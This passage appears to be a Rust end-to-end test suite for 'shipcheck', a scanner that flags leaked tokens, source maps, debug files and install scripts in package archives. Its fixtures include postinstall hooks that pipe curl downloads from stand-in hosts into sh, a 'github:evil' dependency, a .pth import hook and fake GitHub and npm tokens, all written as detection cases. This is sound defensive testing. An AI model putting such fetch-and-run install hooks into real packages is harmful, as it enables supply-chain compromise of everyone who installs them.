//! `shipcheck check` and `shipcheck rules` end to end: the real binary on package tarballs
//! built here from source text (no binary fixtures are committed).

mod common;
#[path = "support/fixtures.rs"]
mod fixtures;

use std::io::Write as _;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use serde_json::Value;

/// A gzip'd tar of `files` written to `dir/name`.
fn tgz_bytes(files: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut t = tar::Builder::new(gz);
    for (path, bytes) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(0);
        h.set_cksum();
        t.append_data(&mut h, path, *bytes).expect("tar entry");
    }
    let mut gz = t.into_inner().expect("tar");
    gz.flush().expect("flush");
    gz.finish().expect("gzip")
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).expect("write fixture");
    p
}

/// A fake but well-formed GitHub token, assembled so this file never holds one.
fn token() -> String {
    format!("{}{}", "ghp_", "Zq8vT2mK9pL4xR7cW1nB6yH3jF5dS0aQeUiO")
}

fn map_with_secret() -> Vec<u8> {
    let mut lines: Vec<String> = (1..42).map(|i| format!("// line {i}")).collect();
    lines.push(format!("export const token = \"{}\";", token()));
    let source = lines.join("\n");
    serde_json::to_vec(&serde_json::json!({
        "version": 3,
        "sources": ["webpack://cli/./src/auth/token.ts", "webpack://cli/./src/main.ts", "webpack://cli/../node_modules/dep/index.js"],
        "sourcesContent": [source, "main()\n", "module.exports = 1\n"],
        "mappings": "AAAA",
    }))
    .expect("map JSON")
}

const CLEAN_PKG: &[u8] = br#"{"name":"clean","version":"1.0.0","files":["index.js"]}"#;

fn leaky(dir: &Path) -> PathBuf {
    let inner = tgz_bytes(&[
        ("package/package.json", CLEAN_PKG),
        ("package/.env", b"API=1\n"),
    ]);
    let pkg = br#"{"name":"leaky","version":"2.0.0","scripts":{"postinstall":"node setup.js"}}"#;
    write(
        dir,
        "leaky-2.0.0.tgz",
        &tgz_bytes(&[
            ("package/package.json", pkg.as_slice()),
            (
                "package/dist/cli.js",
                b"main();\n//# sourceMappingURL=cli.js.map\n",
            ),
            ("package/dist/cli.js.map", &map_with_secret()),
            ("package/vendor/inner.tgz", &inner),
        ]),
    )
}

fn shipcheck(dir: &Path) -> Command {
    let mut c = Command::cargo_bin("shipcheck").expect("binary builds");
    c.current_dir(dir).env("NO_COLOR", "1");
    c
}

/// `check --format json ARGS` in `dir`: the document and the exit code.
fn json_of(dir: &Path, args: &[&str]) -> (Value, i32) {
    common::check_json(shipcheck(dir), args)
}

fn find<'a>(v: &'a Value, rule: &str) -> Vec<&'a Value> {
    v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["rule"] == rule)
        .collect()
}

/// Replaces what varies between runs (temp paths, digests) before snapshotting.
fn redact(mut v: Value) -> Value {
    for side in ["artifact", "baseline"] {
        if let Some(a) = v.get_mut(side).and_then(Value::as_object_mut) {
            for k in ["path", "sha256", "sha512", "integrity", "packed_size"] {
                if a.contains_key(k) {
                    a.insert(k.into(), "[redacted]".into());
                }
            }
        }
    }
    if let Some(p) = v.get_mut("policy").and_then(Value::as_object_mut) {
        p.insert(
            "path".into(),
            p["path"].as_str().map(|_| "[redacted]").into(),
        );
    }
    v
}

#[test]
fn a_clean_package_passes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "clean-1.0.0.tgz",
        &tgz_bytes(&[
            ("package/package.json", CLEAN_PKG),
            ("package/index.js", b"module.exports = 1;\n"),
        ]),
    );
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 0, "clean package exits 0: {v}");
    assert_eq!(v["summary"]["failed"], false);
    assert_eq!(v["findings"].as_array().map(Vec::len), Some(0), "{v}");
    assert_eq!(v["artifact"]["name"], "clean");
    assert!(
        v["artifact"]["integrity"]
            .as_str()
            .is_some_and(|s| s.starts_with("sha512-"))
    );
}

#[test]
fn text_output_counts_what_it_does_not_list_below_high() {
    let dir = tempfile::tempdir().expect("tempdir");
    let map = br#"{"version":3,"sources":["a.ts"],"mappings":"AAAA"}"#;
    let names: Vec<String> = (0..14)
        .map(|i| format!("package/dist/m{i:02}.js.map"))
        .collect();
    let mut files: Vec<(&str, &[u8])> = vec![("package/package.json", CLEAN_PKG)];
    files.extend(names.iter().map(|n| (n.as_str(), &map[..])));
    let f = write(dir.path(), "maps-1.0.0.tgz", &tgz_bytes(&files));
    let out = shipcheck(dir.path())
        .arg("check")
        .arg(&f)
        .output()
        .expect("runs");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("MEDIUM (14)"), "{text}");
    assert_eq!(
        text.matches("  sourcemap-file ").count(),
        10,
        "ten of one rule are listed: {text}"
    );
    assert!(
        text.contains("… and 4 more sourcemap-file (--format json lists all)"),
        "{text}"
    );
    let (v, _) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(
        find(&v, "sourcemap-file").len(),
        14,
        "JSON lists every finding"
    );
}

#[test]
fn the_incident_package_fails_with_precise_findings() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "critical findings exit 1");
    let maps = find(&v, "sourcemap-embedded-sources");
    assert_eq!(maps.len(), 1);
    let e = &maps[0]["evidence"];
    assert_eq!(
        (e["sources"].as_u64(), e["embedded_sources"].as_u64()),
        (Some(3), Some(3))
    );
    assert_eq!(e["first_party"]["files"], 2);
    assert_eq!(e["third_party"]["files"], 1);
    assert_eq!(e["embedded_lines"], 42 + 1 + 1);
    let secret = find(&v, "secret-github-pat");
    assert_eq!(secret.len(), 1, "{v}");
    assert_eq!(secret[0]["path"], "dist/cli.js.map");
    assert_eq!(secret[0]["inner"], "src/auth/token.ts");
    assert_eq!(secret[0]["line"], 42);
    let env = find(&v, "sensitive-file");
    assert!(
        env.iter()
            .any(|f| f["path"] == "vendor/inner.tgz" && f["inner"] == ".env"),
        "nested .env found: {env:?}"
    );
    assert_eq!(find(&v, "nested-archive").len(), 1);
    assert_eq!(find(&v, "install-script")[0]["severity"], "high");
    let refs = find(&v, "sourcemap-reference");
    assert_eq!(refs[0]["severity"], "info", "the referenced map ships");
    assert!(v["summary"]["critical"].as_u64() >= Some(2));
}

#[test]
fn secret_values_never_appear_in_any_format() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    for format in ["text", "json", "sarif", "markdown"] {
        let out = shipcheck(dir.path())
            .args(["check", "--format", format])
            .arg(&f)
            .output()
            .expect("runs");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("ghp_"),
            "{format}: the finding is there with its prefix"
        );
        assert!(
            !text.contains(&token()[..14]),
            "{format} leaks the token:\n{text}"
        );
        assert!(
            !text.contains('\u{1b}'),
            "{format}: no colour when not a terminal"
        );
    }
}

#[test]
fn outputs_match_their_snapshots() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let (v, _) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    insta::assert_json_snapshot!("check_json", redact(v));
    let md = shipcheck(dir.path())
        .args(["check", "--format", "markdown"])
        .arg(&f)
        .output()
        .expect("runs");
    insta::assert_snapshot!("check_markdown", String::from_utf8_lossy(&md.stdout));
    let sarif = shipcheck(dir.path())
        .args(["check", "--format", "sarif"])
        .arg(&f)
        .output()
        .expect("runs");
    let mut s: Value = serde_json::from_slice(&sarif.stdout).expect("SARIF is JSON");
    s["runs"][0]["tool"]["driver"]["rules"] =
        Value::from("[catalogue: see `shipcheck rules --format json`]");
    insta::assert_json_snapshot!("check_sarif", s);
}

#[test]
fn sarif_validates_against_the_official_schema() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    write(
        dir.path(),
        "shipcheck.toml",
        b"[[allow]]\npath = \"vendor/**\"\nreason = \"vendored on purpose\"\n",
    );
    let out = shipcheck(dir.path())
        .args(["check", "--format", "sarif"])
        .arg(&f)
        .output()
        .expect("runs");
    let sarif: Value = serde_json::from_slice(&out.stdout).expect("SARIF is JSON");
    let schema: Value =
        serde_json::from_str(include_str!("data/sarif-schema-2.1.0.json")).expect("schema");
    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{} at {}", e, e.instance_path))
        .collect();
    assert!(errors.is_empty(), "SARIF violates the schema: {errors:#?}");
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(
        results
            .iter()
            .any(|r| r["suppressions"][0]["justification"] == "vendored on purpose"),
        "allowed findings are suppressed, not dropped"
    );
    let embedded = results
        .iter()
        .find(|r| r["ruleId"] == "secret-github-pat")
        .expect("the token inside the map's embedded source");
    let loc = &embedded["locations"][0];
    assert_eq!(
        loc["physicalLocation"]["artifactLocation"]["uri"],
        "dist/cli.js.map"
    );
    assert!(
        loc["physicalLocation"]["region"].is_null(),
        "line 42 is the embedded source's, not the map file's: {loc}"
    );
    assert_eq!(
        loc["logicalLocations"][0]["fullyQualifiedName"],
        "dist/cli.js.map \u{25b8} src/auth/token.ts:42"
    );
    assert!(
        embedded["message"]["text"]
            .as_str()
            .is_some_and(|m| m.starts_with("dist/cli.js.map \u{25b8} src/auth/token.ts:42: ")),
        "{}",
        embedded["message"]
    );
    let top = results
        .iter()
        .find(|r| r["ruleId"] == "install-script")
        .expect("install script");
    assert_eq!(
        top["locations"][0]["physicalLocation"]["region"]["startLine"], 1,
        "a top-level finding keeps its region"
    );
    let mut broken = sarif.clone();
    broken["runs"][0]["results"][0]["level"] = Value::from("fatal");
    assert!(
        !validator.is_valid(&broken),
        "the validator does reject invalid SARIF"
    );
}

#[test]
fn policy_allows_overrides_and_refuses_bad_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = leaky(dir.path());
    let policy = write(
        dir.path(),
        "policy.toml",
        b"[severity]\n\"install-script\" = \"low\"\n[[allow]]\npath = \"dist/cli.js.map\"\nreason = \"maps are public by design\"\nexpires = 2999-12-31\n",
    );
    let (v, code) = json_of(
        dir.path(),
        &[
            f.to_str().expect("utf-8"),
            "--policy",
            policy.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1, "the nested .env still fails");
    let m = &find(&v, "sourcemap-embedded-sources")[0];
    assert_eq!(
        m["allowed"]["reason"], "maps are public by design",
        "allowed, and still shown"
    );
    assert_eq!(find(&v, "install-script")[0]["severity"], "low");
    assert!(v["policy"]["sha256"].is_string());
    let bad = write(
        dir.path(),
        "bad.toml",
        b"profile = \"public\"\n\n[thresholds]\nmax_size = 3\n",
    );
    let out = shipcheck(dir.path())
        .args(["check"])
        .arg(&f)
        .arg("--policy")
        .arg(&bad)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "a bad policy is an error");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.toml:4:"), "names file and line: {err}");
    assert!(err.contains("unknown field"), "{err}");
    assert!(err.contains(" (hint: "), "{err}");
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
    assert!(!err.contains("^J"), "no escaped newline: {err}");
}

#[test]
fn fail_on_and_exit_codes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "nofiles-1.0.0.tgz",
        &tgz_bytes(&[(
            "package/package.json",
            br#"{"name":"n","version":"1.0.0"}"#.as_slice(),
        )]),
    );
    shipcheck(dir.path()).arg("check").arg(&f).assert().code(0);
    shipcheck(dir.path())
        .arg("check")
        .arg(&f)
        .args(["--fail-on", "medium"])
        .assert()
        .code(1);
    shipcheck(dir.path())
        .arg("check")
        .arg(&f)
        .args(["--fail-on", "urgent"])
        .assert()
        .code(2);
    shipcheck(dir.path())
        .args(["check", "no-such-file.tgz"])
        .assert()
        .code(2);
}

#[test]
fn a_new_install_script_against_the_baseline_is_critical() {
    let dir = tempfile::tempdir().expect("tempdir");
    let old = write(
        dir.path(),
        "a-1.0.0.tgz",
        &tgz_bytes(&[(
            "package/package.json",
            br#"{"name":"a","version":"1.0.0","files":["x"]}"#.as_slice(),
        )]),
    );
    let new = write(
        dir.path(),
        "a-1.0.1.tgz",
        &tgz_bytes(&[
            ("package/package.json", br#"{"name":"a","version":"1.0.1","files":["x"],"scripts":{"postinstall":"curl x | sh"},"dependencies":{"b":"github:evil/b"}}"#.as_slice()),
        ]),
    );
    let (v, code) = json_of(
        dir.path(),
        &[
            new.to_str().expect("utf-8"),
            "--baseline",
            old.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(find(&v, "install-script")[0]["severity"], "critical");
    assert_eq!(find(&v, "new-dependency")[0]["severity"], "high");
    assert_eq!(v["baseline"]["version"], "1.0.0");
    assert!(v["diff"]["totals"].is_object());
    let md = shipcheck(dir.path())
        .args(["check", "--format", "markdown"])
        .arg(&new)
        .arg("--baseline")
        .arg(&old)
        .output()
        .expect("runs");
    let md = String::from_utf8_lossy(&md.stdout);
    assert!(md.contains("| files | 1 | 1 | +0 |"), "delta table: {md}");
}

#[test]
fn a_manifest_written_by_shipcheck_is_a_baseline_like_the_artifact_itself() {
    let dir = tempfile::tempdir().expect("tempdir");
    let old = write(
        dir.path(),
        "m-1.0.0.tgz",
        &tgz_bytes(&[
            (
                "package/package.json",
                br#"{"name":"m","version":"1.0.0","files":["index.js","lib"]}"#.as_slice(),
            ),
            (
                "package/index.js",
                b"module.exports = require('./lib/a');\n",
            ),
            ("package/lib/a.js", b"exports.a = 1;\n"),
        ]),
    );
    let big: Vec<u8> = (0..300_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let new = write(
        dir.path(),
        "m-1.1.0.tgz",
        &tgz_bytes(&[
            (
                "package/package.json",
                br#"{"name":"m","version":"1.1.0","files":["index.js","lib"]}"#.as_slice(),
            ),
            (
                "package/index.js",
                b"module.exports = require('./lib/a');\n",
            ),
            ("package/lib/a.js", b"exports.a = 1;\n"),
            ("package/lib/engine.wasm", &big),
        ]),
    );
    let manifest = dir.path().join("m-1.0.0.manifest.json");
    let out = shipcheck(dir.path())
        .arg("manifest")
        .arg(&old)
        .arg("-o")
        .arg(&manifest)
        .output()
        .expect("runs");
    assert_eq!(
        out.status.code(),
        Some(0),
        "manifest -o: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.stdout.is_empty(), "-o writes the file, not stdout");
    let new_s = new.to_str().expect("utf-8");
    let (v, code) = json_of(
        dir.path(),
        &[new_s, "--baseline", manifest.to_str().expect("utf-8")],
    );
    assert_eq!(
        code, 1,
        "a high size-anomaly fails at the default --fail-on high"
    );
    assert_eq!(
        v["baseline"]["version"], "1.0.0",
        "the manifest is the baseline"
    );
    let added: Vec<&str> = v["diff"]["added"]
        .as_array()
        .expect("added")
        .iter()
        .filter_map(|c| c["path"].as_str())
        .collect();
    assert_eq!(added, ["lib/engine.wasm"], "the diff against the manifest");
    let size = find(&v, "size-anomaly");
    assert_eq!(size.len(), 1, "size-anomaly fires: {:?}", v["findings"]);
    assert!(
        size[0]["message"]
            .as_str()
            .is_some_and(|m| m.contains("lib/engine.wasm")),
        "it names the new file: {}",
        size[0]["message"]
    );
    let types = find(&v, "new-file-type");
    assert_eq!(types.len(), 1, "new-file-type fires: {:?}", v["findings"]);
    assert_eq!(types[0]["path"], "lib/engine.wasm");

    // The same verdict as with the old artifact itself as the baseline.
    let (from_tgz, code_tgz) = json_of(
        dir.path(),
        &[new_s, "--baseline", old.to_str().expect("utf-8")],
    );
    let rules = |v: &Value| -> Vec<String> {
        let mut r: Vec<String> = v["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .map(|f| format!("{} {} {}", f["rule"], f["severity"], f["path"]))
            .collect();
        r.sort();
        r
    };
    assert_eq!(code_tgz, code);
    assert_eq!(
        rules(&from_tgz),
        rules(&v),
        "a manifest stands in for the artifact it describes"
    );
    let text = shipcheck(dir.path())
        .args(["check", new_s, "--baseline"])
        .arg(&manifest)
        .output()
        .expect("runs");
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("against m@1.0.0: ") && text.contains("size-anomaly"),
        "text output names the manifest's release:\n{text}"
    );
}

/// A fake token of `prefix` + 36 alphanumerics, different for each `seed`.
fn fake(prefix: &str, seed: u64) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut x = 0x9E37_79B9_7F4A_7C15_u64 ^ seed.wrapping_mul(0x2545_F491_4F6C_DD1D);
    let body: String = (0..36)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            char::from(A[(x % A.len() as u64) as usize])
        })
        .collect();
    format!("{prefix}{body}")
}

#[test]
fn no_rule_prints_a_secret_it_quotes_in_any_format() {
    let dir = tempfile::tempdir().expect("tempdir");
    let script = fake("ghp_", 1);
    let dep = fake("ghp_", 2);
    let map_url = fake("ghp_", 3);
    let bundled = "Pl41nPassw0rd4Deploy";
    let custom = fake("npm_", 5);
    let old = write(
        dir.path(),
        "a-1.0.0.tgz",
        &tgz_bytes(&[(
            "package/package.json",
            br#"{"name":"a","version":"1.0.0"}"#.as_slice(),
        )]),
    );
    let pkg = serde_json::json!({
        "name": "a", "version": "1.0.1",
        "scripts": { "postinstall": format!("curl -H 'Authorization: token {script}' https://x.example/i.sh | sh") },
        "dependencies": { "d": format!("git+https://x-oauth:{dep}@github.com/o/d.git") },
    })
    .to_string();
    let dep_pkg = serde_json::json!({
        "name": "dep", "version": "1.0.0",
        "scripts": { "postinstall": format!("curl https://ci:{bundled}@dl.example.com/x | sh") },
    })
    .to_string();
    let js =
        format!("main();\n//# sourceMappingURL=https://user:{map_url}@maps.example.com/a.js.map\n");
    let notes = format!("release token is {custom}\n");
    let new = write(
        dir.path(),
        "a-1.0.1.tgz",
        &tgz_bytes(&[
            ("package/package.json", pkg.as_bytes()),
            ("package/node_modules/dep/package.json", dep_pkg.as_bytes()),
            ("package/dist/a.js", js.as_bytes()),
            ("package/NOTES.txt", notes.as_bytes()),
        ]),
    );
    let policy = write(
        dir.path(),
        "policy.toml",
        b"[[pattern]]\nid = \"release-note\"\nseverity = \"high\"\ncontent = 'release token is \\S+'\n",
    );
    let args = |format: &str| {
        let out = shipcheck(dir.path())
            .args(["check", "--format", format])
            .arg(&new)
            .arg("--baseline")
            .arg(&old)
            .arg("--policy")
            .arg(&policy)
            .output()
            .expect("runs");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let v: Value = serde_json::from_str(&args("json")).expect("JSON");
    for (rule, what) in [
        ("install-script", "the postinstall and the bundled one"),
        ("new-dependency", "the git dependency"),
        ("sourcemap-reference", "the external map URL"),
        ("release-note", "the custom pattern"),
    ] {
        assert!(!find(&v, rule).is_empty(), "{what} is reported: {v}");
    }
    for format in ["text", "json", "sarif", "markdown"] {
        let out = args(format);
        for (secret, case) in [
            (script.as_str(), "postinstall header"),
            (dep.as_str(), "dependency spec"),
            (map_url.as_str(), "map URL"),
            (bundled, "bundled dependency's URL password"),
            (custom.as_str(), "custom pattern match"),
        ] {
            assert!(
                !out.contains(&secret[..12]),
                "{format} prints the {case} secret:\n{out}"
            );
        }
    }
}

/// An index map (`sections`) holding the token in its second section, a `url` section and a
/// nested index map, which the spec forbids.
fn index_map_with_secret() -> Vec<u8> {
    let section = |line: u32, sources: &[&str], contents: &[String]| {
        serde_json::json!({ "offset": { "line": line, "column": 0 },
            "map": { "version": 3, "sources": sources, "sourcesContent": contents, "mappings": "AAAA" } })
    };
    serde_json::to_vec(&serde_json::json!({
        "version": 3,
        "file": "app.js",
        "sections": [
            section(0, &["webpack://app/./src/main.ts"], &["main();\n".to_owned()]),
            section(10, &["webpack://app/./src/auth/token.ts", "webpack://app/../node_modules/d/i.js"],
                    &[format!("// auth\nexport const token = \"{}\";\n", token()), "dep\n".to_owned()]),
            { "offset": { "line": 20, "column": 0 }, "url": "vendor.js.map" },
            { "offset": { "line": 30, "column": 0 }, "map": { "version": 3, "sections": [] } },
        ],
    }))
    .expect("map JSON")
}

#[test]
fn an_index_map_is_measured_and_scanned_through_its_sections() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "idx-1.0.0.tgz",
        &tgz_bytes(&[
            (
                "package/package.json",
                br#"{"name":"idx","version":"1.0.0","files":["dist"]}"#.as_slice(),
            ),
            // Named like data, not like a map: recognised by its content.
            ("package/dist/app.js.json", &index_map_with_secret()),
        ]),
    );
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "embedded sources and a token fail the check");
    let maps = find(&v, "sourcemap-embedded-sources");
    assert_eq!(maps.len(), 1, "{v}");
    let e = &maps[0]["evidence"];
    assert_eq!(e["sources"], 3);
    assert_eq!(e["embedded_sources"], 3);
    assert_eq!(e["embedded_lines"], 4);
    assert_eq!(e["first_party"]["files"], 2);
    assert_eq!(e["third_party"]["files"], 1);
    assert_eq!(e["index_map"]["sections"], 4);
    assert_eq!(e["index_map"]["url_sections"], 1);
    assert_eq!(e["index_map"]["nested_index_maps"], 1);
    let message = maps[0]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("1 nested index maps (invalid) not read"),
        "{message}"
    );
    let secret = find(&v, "secret-github-pat");
    assert_eq!(secret.len(), 1, "{v}");
    assert_eq!(secret[0]["path"], "dist/app.js.json");
    assert_eq!(secret[0]["inner"], "src/auth/token.ts");
    assert_eq!(secret[0]["line"], 2);
    assert!(find(&v, "sourcemap-file").is_empty(), "one finding per map");
}

#[test]
fn a_secret_in_an_embedded_source_has_its_exact_column() {
    let line = format!(
        "\tconst s = \"caf\u{e9} \\ \u{1F600}\"; const t = \"{}\";",
        token()
    );
    let source = format!("// first\n{line}\n");
    // serde_json writes é and the emoji raw; a bundler often writes `\uXXXX`: do both.
    let content = serde_json::to_string(&source)
        .expect("a JSON string")
        .replace('\u{e9}', "\\u00e9")
        .replace('\u{1F600}', "\\ud83d\\ude00");
    assert!(content.contains(r"\t") && content.contains(r#"\""#) && content.contains(r"\\"));
    let map = format!(
        r#"{{"version":3,"sources":["src/k.ts"],"sourcesContent":[{content}],"mappings":"AAAA"}}"#
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let f = write(
        dir.path(),
        "col-1.0.0.tgz",
        &tgz_bytes(&[
            (
                "package/package.json",
                br#"{"name":"col","version":"1.0.0","files":["dist"]}"#.as_slice(),
            ),
            ("package/dist/k.js.map", map.as_bytes()),
        ]),
    );
    let (v, _) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    let secret = find(&v, "secret-github-pat");
    assert_eq!(secret.len(), 1, "{v}");
    let column = line.find(&token()).expect("token on the line") + 1;
    assert_eq!(
        (secret[0]["line"].as_u64(), secret[0]["column"].as_u64()),
        (Some(2), Some(column as u64)),
        "line and column in the source as written (bytes, like every other finding), \
         not in its JSON-escaped form"
    );
}

#[test]
fn native_debug_leftovers_are_found_by_content_and_stripped_addons_pass() {
    let dir = tempfile::tempdir().expect("tempdir");
    let unstripped = fixtures::elf(3, &[".text", ".debug_info", ".debug_line"], true, true);
    let stripped = fixtures::elf(3, &[".text", ".dynsym", ".symtab"], true, true);
    let f = write(
        dir.path(),
        "native-1.0.0.tgz",
        &fixtures::tgz(&[
            (
                b"package.json",
                br#"{"name":"native","version":"1.0.0","files":["prebuilds","build"]}"#,
            ),
            (b"prebuilds/linux-x64/native.node", &stripped),
            (b"build/Release/native.node", &unstripped),
            (b"build/Release/obj/crash.dat", &fixtures::minidump()),
            (b"build/Release/native.sym", &fixtures::pdb()),
        ]),
    );
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "a crash dump fails the check");
    let found: Vec<(&str, &str, &str)> = find(&v, "debug-artifact")
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap_or_default(),
                f["severity"].as_str().unwrap_or_default(),
                f["evidence"]["kind"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("build/Release/native.sym", "high", "pdb"),
            ("build/Release/obj/crash.dat", "high", "crash-dump"),
            ("build/Release/native.node", "medium", "unstripped-binary"),
        ],
        "by content whatever the name; the stripped prebuild is not reported: {v}"
    );
    let unstripped = find(&v, "debug-artifact")
        .into_iter()
        .find(|f| f["severity"] == "medium")
        .expect("the unstripped addon");
    assert_eq!(
        unstripped["evidence"]["debug_sections"],
        serde_json::json!([".debug_info", ".debug_line"])
    );
}

/// One `install-script` finding of `check --format json`.
#[derive(Debug)]
struct Install {
    path: String,
    line: Option<u64>,
    severity: String,
    message: String,
}

/// The `install-script` findings of checking `args[0]` (against `args[1]`), and the exit code.
fn install_findings(dir: &Path, args: &[&Path]) -> (Vec<Install>, i32) {
    let args: Vec<&str> = args.iter().map(|p| p.to_str().expect("utf-8")).collect();
    let mut all = vec![args[0]];
    if let Some(base) = args.get(1) {
        all.extend(["--baseline", base]);
    }
    let (v, code) = json_of(dir, &all);
    let text = |f: &Value, k: &str| f[k].as_str().unwrap_or_default().to_owned();
    let found = find(&v, "install-script")
        .iter()
        .map(|f| Install {
            path: text(f, "path"),
            line: f["line"].as_u64(),
            severity: text(f, "severity"),
            message: text(f, "message"),
        })
        .collect();
    (found, code)
}

#[test]
fn a_crate_s_build_script_is_reported_and_critical_when_new() {
    let dir = tempfile::tempdir().expect("tempdir");
    let old = write(
        dir.path(),
        "c-0.1.0.crate",
        &common::crate_file("c", "0.1.0"),
    );
    let new = write(
        dir.path(),
        "c-0.1.1.crate",
        &common::crate_with("c", "0.1.1", "", &[("build.rs", b"fn main() {}\n")]),
    );
    let (found, code) = install_findings(dir.path(), &[&new]);
    assert_eq!(
        code, 0,
        "medium does not fail the default threshold: {found:?}"
    );
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].path.as_str(), found[0].severity.as_str()),
        ("build.rs", "medium")
    );
    let (found, code) = install_findings(dir.path(), &[&new, &old]);
    assert_eq!(code, 1, "a new build script fails the check");
    assert_eq!(found[0].severity, "critical");
    assert!(
        found[0].message.contains("new since the baseline"),
        "{}",
        found[0].message
    );
    let off = write(
        dir.path(),
        "c-0.1.2.crate",
        &common::crate_with(
            "c",
            "0.1.2",
            "build = false",
            &[("build.rs", b"fn main() {}\n")],
        ),
    );
    assert!(
        install_findings(dir.path(), &[&off]).0.is_empty(),
        "build = false"
    );
}

#[test]
fn an_sdist_runs_setup_py_and_a_declarative_one_only_its_backend() {
    let dir = tempfile::tempdir().expect("tempdir");
    let legacy = write(dir.path(), "demo-1.0.tar.gz", &common::sdist("demo", "1.0"));
    let (found, code) = install_findings(dir.path(), &[&legacy]);
    assert_eq!(
        code, 0,
        "setup.py is medium: every setuptools sdist runs it, so it alone does not fail"
    );
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].path.as_str(), found[0].severity.as_str()),
        ("setup.py", "medium")
    );
    assert!(
        found[0]
            .message
            .contains("setuptools.build_meta:__legacy__"),
        "{}",
        found[0].message
    );
    let flit = write(
        dir.path(),
        "demo-1.1.tar.gz",
        &common::sdist_with(
            "demo",
            "1.1",
            &[(
                "pyproject.toml",
                b"[build-system]\nrequires = [\"flit_core >=3.2\"]\nbuild-backend = \"flit_core.buildapi\"\n",
            )],
        ),
    );
    let (found, code) = install_findings(dir.path(), &[&flit]);
    assert_eq!(code, 0);
    assert_eq!(
        (found[0].path.as_str(), found[0].severity.as_str()),
        ("pyproject.toml", "info")
    );
    let (found, _) = install_findings(dir.path(), &[&legacy, &flit]);
    assert_eq!(
        found[0].severity, "critical",
        "setup.py is new against the flit release"
    );
}

#[test]
fn a_wheel_s_pth_import_line_is_high_with_its_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let hook = write(
        dir.path(),
        "demo-1.0-py3-none-any.whl",
        &common::wheel_with(
            "demo",
            "1.0",
            &[(
                "demo_hook.pth",
                b"/opt/demo\nimport demo._hook; demo._hook.run()\n",
            )],
        ),
    );
    let (found, code) = install_findings(dir.path(), &[&hook]);
    assert_eq!(code, 1);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (
            found[0].path.as_str(),
            found[0].line,
            found[0].severity.as_str()
        ),
        ("demo_hook.pth", Some(2), "high")
    );
    assert!(
        found[0]
            .message
            .contains("import demo._hook; demo._hook.run()"),
        "{}",
        found[0].message
    );
    let paths_only = write(
        dir.path(),
        "demo-1.1-py3-none-any.whl",
        &common::wheel_with("demo", "1.1", &[("demo.pth", b"/opt/demo\n")]),
    );
    assert!(install_findings(dir.path(), &[&paths_only]).0.is_empty());
}

#[test]
fn rules_catalogue_and_docs_do_not_drift() {
    let out = Command::cargo_bin("shipcheck")
        .expect("binary")
        .args(["rules", "--format", "json"])
        .output()
        .expect("runs");
    let rules: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert!(
        rules.as_array().map_or(0, Vec::len) >= 55,
        "every rule and secret format listed"
    );
    let md = Command::cargo_bin("shipcheck")
        .expect("binary")
        .args(["rules", "--format", "markdown"])
        .output()
        .expect("runs");
    let generated = String::from_utf8_lossy(&md.stdout).into_owned();
    for file in ["docs/rules.md", "README.md"] {
        let doc = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(file))
            .expect("the rule list's file");
        let start = doc.find("<!-- rules:start -->\n").expect("start marker")
            + "<!-- rules:start -->\n".len();
        let end = doc.find("<!-- rules:end -->").expect("end marker");
        assert_eq!(
            &doc[start..end],
